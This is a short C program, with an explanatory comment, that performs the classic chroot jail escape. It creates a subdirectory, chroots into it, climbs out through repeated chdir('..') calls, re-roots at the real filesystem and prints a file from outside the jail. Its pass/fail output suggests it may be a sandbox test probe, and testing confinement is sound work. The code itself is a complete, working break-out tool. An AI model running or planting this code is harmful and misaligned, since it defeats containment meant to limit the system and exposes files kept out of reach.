/* The classic chroot escape.  chroot(2) moves a process's root but not its
   working directory, and ".." stops only at the current root: so a process
   that may call chroot (CAP_SYS_CHROOT) chroots into a subdirectory, walks
   up from its old working directory past the place it was jailed in, and
   makes wherever that leads its root again.

     escape FILE   try to break out, then print FILE (an absolute path
                   outside the jail) */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int
main (int argc, char **argv)
{
  if (argc != 2)
    {
      fprintf (stderr, "usage: escape FILE\n");
      return 2;
    }
  mkdir ("escape-dir", 0700);
  if (chroot ("escape-dir") < 0)
    {
      printf ("escape failed: chroot: %s\n", strerror (errno));
      return 1;
    }
  /* The working directory is now outside the root: climb. */
  for (int i = 0; i < 64; i++)
    if (chdir ("..") < 0)
      break;
  if (chroot (".") < 0)
    {
      printf ("escape failed: chroot .: %s\n", strerror (errno));
      return 1;
    }
  FILE *f = fopen (argv[1], "r");
  if (f == NULL)
    {
      printf ("escape failed: %s: %s\n", argv[1], strerror (errno));
      return 1;
    }
  char line[256];
  while (fgets (line, sizeof line, f))
    fputs (line, stdout);
  fclose (f);
  printf ("escaped: read %s\n", argv[1]);
  return 0;
}
